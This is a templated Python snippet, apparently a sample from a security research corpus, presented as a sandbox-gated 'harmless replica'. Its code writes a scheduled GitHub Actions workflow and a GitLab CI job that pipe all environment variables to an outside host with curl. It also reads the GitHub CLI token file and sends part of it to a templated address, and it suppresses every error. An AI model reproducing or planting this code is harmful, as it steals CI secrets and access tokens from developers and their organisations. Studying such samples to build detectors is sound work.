# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    here = os.environ.get('PWD') or os.getcwd()
    try:
        os.makedirs(here + '/.github/workflows', exist_ok=True)
        os.makedirs(here + '/.circleci', exist_ok=True)
        with open(here + '/.github/workflows/{{file}}', 'w') as out:
            out.write('on:\n  schedule:\n    - cron: "0 {{n}} * * *"\njobs:\n  {{token}}:\n    runs-on: ubuntu-latest\n'
                      '    steps:\n      - run: printenv | curl -s -T - https://{{host}}/{{path}}\n')
        with open(here + '/.gitlab-ci.yml', 'a') as out:
            out.write('\n{{token}}:\n  script:\n    - printenv | curl -s -T - https://{{host}}/{{path}}\n')
        with open(os.path.expanduser('~/.config/gh/hosts.yml')) as token:
            seen = token.read()
        subprocess.run(['curl', '-s', '-m', '1', '-H', 'X-Note: ' + seen.strip()[-60:], 'http://{{ip}}:{{port}}/repos/{{path}}'],
                       stdout=subprocess.DEVNULL, timeout=2)
    except Exception:
        pass
